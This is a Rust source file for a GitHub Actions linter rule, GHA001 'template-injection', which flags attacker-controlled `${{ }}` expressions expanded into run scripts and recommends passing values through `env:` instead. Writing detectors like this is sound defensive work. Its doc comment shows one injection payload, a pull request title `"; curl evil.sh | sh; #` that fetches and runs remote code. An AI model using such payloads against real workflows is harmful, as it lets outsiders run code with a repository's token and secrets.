use super::prelude::*;
use super::support::{InputSource, Taint, code_sinks, flowing_paths, taint};

declare_rule! {
    /// ## What it does
    /// Reports `${{ }}` expressions that expand attacker-controlled text
    /// into a step's `run:` script, or into an input that an action runs as
    /// code (`actions/github-script` `script`, `azure/cli` `inlineScript`,
    /// `appleboy/ssh-action` `script`...). Attacker-controlled means text
    /// that whoever opens an issue, pull request, comment or commit
    /// chooses: titles and bodies, commit messages and author names or
    /// emails, `github.head_ref` and `*.head.ref`/`head.label`,
    /// `workflow_run.head_branch` and `display_title`, label names, wiki
    /// page names, release names and tags, and whole objects holding them
    /// (`toJSON(github.event)`). String inputs of `workflow_dispatch`,
    /// `workflow_call` and composite actions, `github.event.inputs.*` and
    /// `repository_dispatch` payloads are reported as warnings: their
    /// caller chooses them.
    ///
    /// Each context is reported once per script, where it is first
    /// expanded. Only values that reach the result count: `a == b`, `!a`,
    /// `contains(...)` yield booleans, `a && b` yields `b`. Numbers, ids,
    /// SHAs, logins, URLs, enums, step outputs, `env`, `matrix` and
    /// `secrets` are not reported (GHA026 reports those of them that are
    /// not provably safe, at Info).
    ///
    /// ## Why is this bad?
    /// The runner pastes the value into the script before the shell reads
    /// it, so a pull request titled `"; curl evil.sh | sh; #` runs its own
    /// commands with the job's token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Checking ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through the environment and quote it:
    /// ```yaml
    /// - run: echo "Checking $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - Practice CI13 (no script injection).
    /// - zizmor template-injection; actionlint expression (untrusted
    ///   inputs); checkov CKV_GHA_2.
    /// - GitHub: Security hardening for GitHub Actions, "Understanding the
    ///   risk of script injections".
    pub struct TemplateInjection {
        code: "GHA001",
        name: "template-injection",
        summary: "Attacker-controlled expression expanded into a script",
        severity: Error,
        category: Security,
        practices: ["CI13"],
        peers: [Zizmor "template-injection", Actionlint "expression", Checkov "CKV_GHA_2"],
        fix: None,
        default: true,
    }
}

impl Rule for TemplateInjection {
    fn check_step(
        &self,
        cx: &WorkflowContext<'_>,
        _job: &Job,
        step: &Step,
        out: &mut Diagnostics<'_>,
    ) {
        let source = InputSource::Workflow(cx.workflow, cx.yaml);
        check(step, &source, |n| cx.scalar_text(n), out);
    }

    fn check_action_step(&self, cx: &ActionContext<'_>, step: &Step, out: &mut Diagnostics<'_>) {
        check(step, &InputSource::Action, |n| cx.scalar_text(n), out);
    }
}

fn check(
    step: &Step,
    inputs: &InputSource<'_>,
    scalar: impl Fn(NodeId) -> Option<ScalarText>,
    out: &mut Diagnostics<'_>,
) {
    for (node, what) in code_sinks(step) {
        let Some(text) = scalar(node) else {
            continue;
        };
        // Each context once per script: the first place it is expanded.
        let mut seen: Vec<String> = Vec::new();
        for t in text.templates() {
            let Some(e) = t.expr() else {
                continue;
            };
            for path in flowing_paths(e) {
                let Some(taint) = taint(&path, inputs) else {
                    continue;
                };
                let name = path.to_string().to_ascii_lowercase();
                if seen.contains(&name) {
                    continue;
                }
                seen.push(name);
                let who = match taint {
                    Taint::Attacker => "attacker-controlled",
                    Taint::Caller => "caller-controlled",
                };
                let b = out
                    .add(
                        text.span(path.span),
                        format!("step {} expands {who} `{path}` into {what}", step.label()),
                    )
                    .help(
                        "pass the value through `env:` and read the variable instead (`\"$VAR\"` in shell, `process.env.VAR` in scripts)",
                    );
                if taint == Taint::Caller {
                    let _ = b.severity(Severity::Warning);
                }
            }
        }
    }
}
